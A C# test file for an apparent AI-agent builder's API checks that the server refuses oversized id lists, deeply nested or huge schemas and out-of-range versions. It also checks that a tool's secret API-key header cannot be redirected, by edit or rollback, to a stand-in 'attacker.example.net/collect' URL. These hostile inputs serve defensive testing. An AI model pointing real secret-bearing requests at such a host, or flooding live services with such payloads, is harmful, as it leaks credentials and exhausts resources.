using System.Text.Json;
using Builder.Web.Tests.Api;
using static Builder.Web.Tests.Poweruser.Agents.AgentsApi;
using static Builder.Web.Tests.Poweruser.PoweruserArrange;

namespace Builder.Web.Tests.Poweruser.Agents;

/// <summary>
/// Hostile pass over the agents, tools and managers poweruser endpoints: id lists far beyond the limits, secret headers
/// moved to another host, version selectors out of range, races of publish and rollback.
/// </summary>
public sealed class AgentsHostileTests(BuilderApiFactory factory) : IClassFixture<BuilderApiFactory>
{
    private const string Canary = "CANARY-tool-repoint-7d1f3a9e";
    private readonly AgentsApi _api = AgentsApi.For(factory);

    /// <summary>
    /// toolIds / knowledgeBaseIds / agents of 10,000 entries were each looked up (a database round trip per id, and one error
    /// per id in the answer) before the domain refused the count: a small body made ten thousand queries and an answer of
    /// ten thousand errors. The count is refused first, as one error naming the list.
    /// </summary>
    [Fact]
    public async Task Ten_thousand_ids_are_refused_by_their_count_before_any_is_looked_up()
    {
        var admin = await _api.AdminAsync();
        var ids = Enumerable.Range(1_000_000, 10_000).ToArray();

        foreach (var (path, body, field) in new (string, object, string)[]
                 {
                     ("/agents/create", new { agentName = Name("A"), toolIds = ids }, "toolIds"),
                     ("/agents/create", new { agentName = Name("A"), knowledgeBaseIds = ids }, "knowledgeBaseIds"),
                     ("/managers/create", new { managerName = Name("M"), agents = ids.Select(id => new { agentId = id, handles = "x" }) }, "agents"),
                 })
        {
            var answer = await admin.PostJsonAsync(Prefix + path, body).ExpectJson(400);
            AssertErrors(answer, "invalid_value", field);
            Assert.Single(answer.GetProperty("errors").EnumerateArray());
        }
    }

    /// <summary>
    /// A tool's secret headers are kept on the record and go wherever its URL points. An edit that moved the URL to another
    /// host kept them, so whoever may edit the tool could have its next run send the stored value to a host of their choice:
    /// a write-only value read back. As for models and MCP servers, moving to another origin needs each stored secret header
    /// entered again or cleared in the same edit; a new path on the same origin is fine.
    /// </summary>
    [Fact]
    public async Task Moving_a_tool_with_a_secret_header_to_another_host_needs_the_secret_again()
    {
        var admin = await _api.AdminAsync();
        var toolId = (await _api.PostAsync("/tools/create", new
        {
            toolName = Name("Secret"), kind = "HTTP", http = new { method = "GET", url = "https://api.example.com/v1/orders" },
            secretHeaders = new[] { new { name = "X-Api-Key", value = Canary } },
        })).GetProperty("toolId").GetInt32();

        var refused = await admin.PostJsonAsync($"{Prefix}/tools/update", new { toolId, http = new { url = "https://attacker.example.net/collect" } })
            .ExpectErrors(400, "invalid_value", "http.url");
        Assert.Contains("X-Api-Key", refused.Str("message"));
        await admin.PostJsonAsync($"{Prefix}/tools/update", new { toolId, http = new { url = "http://api.example.com/v1/orders" } })
            .ExpectErrors(400, "invalid_value", "http.url");
        await admin.PostJsonAsync($"{Prefix}/tools/update", new { toolId, http = new { url = "https://api.example.com:8443/v1/orders" } })
            .ExpectErrors(400, "invalid_value", "http.url");
        var draft = await _api.PostAsync("/tools/get", new { toolId, version = new { versionState = "DRAFT" } });
        Assert.Equal("https://api.example.com/v1/orders", draft.GetProperty("tool").GetProperty("http").Str("url"));

        // Same origin, another path: fine. Another host with the value entered again, or cleared: fine.
        await _api.PostAsync("/tools/update", new { toolId, http = new { url = "https://API.example.com/v2/orders?x={{env.REGION}}" } });
        await _api.PostAsync("/tools/update", new
        {
            toolId, http = new { url = "https://other.example.org/v2" }, secretHeaders = new[] { new { name = "X-Api-Key", value = "new-value-1234" } },
        });
        await _api.PostAsync("/tools/update", new
        {
            toolId, http = new { url = "https://third.example.org/v2" }, secretHeaders = new[] { new { name = "X-Api-Key", clear = true } },
        });
        var tool = await _api.PostAsync("/tools/get", new { toolId, version = new { versionState = "DRAFT" } });
        Assert.Empty(tool.GetProperty("tool").GetProperty("secretHeaders").EnumerateArray());
        Assert.DoesNotContain(Canary, tool.GetRawText());
    }

    /// <summary>
    /// The same through a rollback: secret headers are not versioned, so rolling back to a version published on another host
    /// (before the secret was entered) sent the stored value there. Refused with a 400 on versionNumber; nothing is published.
    /// </summary>
    [Fact]
    public async Task Rolling_a_tool_with_a_secret_header_back_to_a_version_on_another_host_is_refused()
    {
        var admin = await _api.AdminAsync();
        var toolId = await _api.CreateToolAsync("https://attacker.example.net/collect?city={{input.city}}");
        await _api.PostAsync("/tools/publish", new { toolId });
        await _api.PostAsync("/tools/update", new { toolId, http = new { url = "https://api.example.com/weather?city={{input.city}}" } });
        await _api.PostAsync("/tools/publish", new { toolId });
        await _api.PostAsync("/tools/update", new { toolId, secretHeaders = new[] { new { name = "X-Api-Key", value = Canary } } });

        var refused = await admin.PostJsonAsync($"{Prefix}/tools/rollback", new { toolId }).ExpectErrors(400, "invalid_value", "versionNumber");
        Assert.Contains("X-Api-Key", refused.Str("message"));
        await admin.PostJsonAsync($"{Prefix}/tools/rollback", new { toolId, versionNumber = 1 }).ExpectErrors(400, "invalid_value", "versionNumber");
        var tool = (await _api.PostAsync("/tools/get", new { toolId })).GetProperty("tool");
        Assert.Equal(2, tool.GetProperty("publishedVersion").GetInt32());
        Assert.StartsWith("https://api.example.com/", tool.GetProperty("http").Str("url"));

        await _api.PostAsync("/tools/update", new { toolId, secretHeaders = new[] { new { name = "X-Api-Key", clear = true } } });
        await _api.PostAsync("/tools/rollback", new { toolId });
    }

    [Fact]
    public async Task Huge_or_deep_schemas_and_pathological_templates_are_a_small_clear_400()
    {
        var admin = await _api.AdminAsync();
        var deep = string.Concat(Enumerable.Repeat("{\"a\":", 1000)) + "1" + new string('}', 1000);
        await admin.PostJsonAsync($"{Prefix}/tools/create", new { toolName = Name("T"), inputSchema = deep }).ExpectErrors(400, "invalid_value", "inputSchema");
        var deepBody = "{\"toolName\": \"x\", \"inputSchema\": " + deep + "}";
        Assert.Equal(400, (int)(await admin.PostRawAsync($"{Prefix}/tools/create", deepBody)).StatusCode);
        var huge = "{\"type\": \"object\", \"description\": \"" + new string('x', 5_000_000) + "\"}";
        Assert.Contains((int)(await admin.PostJsonAsync($"{Prefix}/tools/create", new { toolName = Name("T"), inputSchema = huge })).StatusCode, new[] { 400, 413 });

        foreach (var body in new[] { string.Concat(Enumerable.Repeat("{{input.nope}}", 7_000)), "{{" + string.Concat(Enumerable.Repeat("{{{", 30_000)), string.Concat(Enumerable.Repeat("{{x}}", 19_000)) })
        {
            var answer = await admin.PostJsonAsync($"{Prefix}/tools/create", new { toolName = Name("T"), http = new { method = "POST", url = "https://api.example.com/", body } });
            Assert.True((int)answer.StatusCode is 400 or 200, $"{(int)answer.StatusCode}");
            Assert.True((await answer.Content.ReadAsStringAsync()).Length < 200_000, "the answer repeats the body");
        }
    }

    [Fact]
    public async Task Version_selectors_out_of_range_or_contradictory_are_a_clear_400_or_404()
    {
        var admin = await _api.AdminAsync();
        var toolId = await _api.CreateToolAsync();
        await _api.PostAsync("/tools/publish", new { toolId });

        async Task<JsonElement> Get(string version, int status) =>
            await admin.PostRawAsync($"{Prefix}/tools/get", $"{{\"toolId\": {toolId}, \"version\": {version}}}").ExpectJson(status);
        void AssertErrors(JsonElement body, string code, string? field = null)
        {
            var error = body.GetProperty("errors")[0];
            Assert.True(error.Str("code") == code && (field is null || error.Str("field") == field), $"expected {code} {field}, got {body.GetRawText()}");
        }

        AssertErrors(await Get("{\"versionNumber\": 0}", 400), "invalid_value", "version.versionNumber");
        AssertErrors(await Get("{\"versionNumber\": -1}", 400), "invalid_value", "version.versionNumber");
        AssertErrors(await Get("{\"versionNumber\": 2147483648}", 400), "invalid_type", "version.versionNumber");
        AssertErrors(await Get("{\"versionNumber\": 99}", 404), "not_found");
        AssertErrors(await Get("{\"versionState\": \"ARCHIVED\"}", 404), "not_found");
        AssertErrors(await Get("{\"versionState\": \"DRAFT\", \"versionNumber\": 1}", 404), "not_found");
        AssertErrors(await Get("{\"versionState\": \"LATEST\"}", 400), "invalid_value", "version.versionState");
        AssertErrors(await Get("{\"versionState\": 1}", 400), "invalid_type", "version.versionState");
        AssertErrors(await Get("\"PUBLISHED\"", 400), "invalid_json", "version");
        Assert.Equal(1, (await Get("{\"versionState\": \"PUBLISHED\", \"versionNumber\": 1}", 200)).GetProperty("tool").GetProperty("version").GetProperty("versionNumber").GetInt32());

        AssertErrors(await admin.PostRawAsync($"{Prefix}/tools/rollback", $"{{\"toolId\": {toolId}, \"versionNumber\": 2147483648}}").ExpectJson(400),
            "invalid_type", "versionNumber");
        AssertErrors(await admin.PostRawAsync($"{Prefix}/tools/rollback", $"{{\"toolId\": {toolId}, \"versionNumber\": -3}}").ExpectJson(400),
            "invalid_value", "versionNumber");
        AssertErrors(await admin.PostRawAsync($"{Prefix}/tools/rollback", $"{{\"toolId\": {toolId}, \"versionNumber\": 2147483647}}").ExpectJson(404), "not_found");
        AssertErrors(await admin.PostRawAsync($"{Prefix}/tools/get", "{\"toolId\": 9223372036854775807}").ExpectJson(404), "not_found");
        AssertErrors(await admin.PostRawAsync($"{Prefix}/tools/get", "{\"toolId\": 9223372036854775808}").ExpectJson(400), "invalid_id", "toolId");
        Assert.Single((await _api.PostAsync("/tools/versions", new { toolId })).GetProperty("versions").EnumerateArray(), v => v.Str("versionState") == "PUBLISHED");
    }

    [Fact]
    public async Task Publishes_and_rollbacks_racing_leave_exactly_one_published_version()
    {
        var admin = await _api.AdminAsync();
        var toolId = await _api.CreateToolAsync();
        await _api.PostAsync("/tools/publish", new { toolId });
        await _api.PostAsync("/tools/update", new { toolId, toolDescription = "second" });

        var publishes = await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => admin.PostJsonAsync($"{Prefix}/tools/publish", new { toolId })));
        Assert.Equal(1, publishes.Count(r => (int)r.StatusCode == 200));
        Assert.All(publishes.Where(r => (int)r.StatusCode != 200), r => Assert.Equal(409, (int)r.StatusCode));
        await AssertOnePublished(toolId);

        var rollbacks = await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => admin.PostJsonAsync($"{Prefix}/tools/rollback", new { toolId, versionNumber = 1 })));
        Assert.Contains(rollbacks, r => (int)r.StatusCode == 200);
        Assert.All(rollbacks, r => Assert.Contains((int)r.StatusCode, new[] { 200, 409 }));
        await AssertOnePublished(toolId);

        // A publish racing an edit of the draft: whatever wins, one published version, and it is a draft that existed.
        var racing = await Task.WhenAll(
            admin.PostJsonAsync($"{Prefix}/tools/update", new { toolId, toolDescription = "third" }),
            admin.PostJsonAsync($"{Prefix}/tools/publish", new { toolId }),
            admin.PostJsonAsync($"{Prefix}/tools/update", new { toolId, toolDescription = "fourth" }));
        // 412 is the project's answer to an edit that lost a race (PromptTemplateRaceAndRangeTests allow it too).
        Assert.All(racing, r => Assert.Contains((int)r.StatusCode, new[] { 200, 409, 412 }));
        await AssertOnePublished(toolId);
        var published = await _api.PostAsync("/tools/get", new { toolId });
        Assert.Contains(published.GetProperty("tool").Str("toolDescription"), new[] { "Weather", "second", "third", "fourth" });
    }

    private async Task AssertOnePublished(int toolId)
    {
        var versions = (await _api.PostAsync("/tools/versions", new { toolId })).GetProperty("versions").EnumerateArray().ToList();
        Assert.Single(versions, v => v.Str("versionState") == "PUBLISHED");
        Assert.Single(versions, v => v.Str("versionState") == "DRAFT");
        var numbers = versions.Where(v => v.GetProperty("versionNumber").ValueKind == JsonValueKind.Number).Select(v => v.GetProperty("versionNumber").GetInt32()).ToList();
        Assert.Equal(numbers.Count, numbers.Distinct().Count());
        var tool = (await _api.PostAsync("/tools/get", new { toolId })).GetProperty("tool");
        Assert.Equal(tool.GetProperty("publishedVersion").GetInt32(), versions.Single(v => v.Str("versionState") == "PUBLISHED").GetProperty("versionNumber").GetInt32());
    }
}
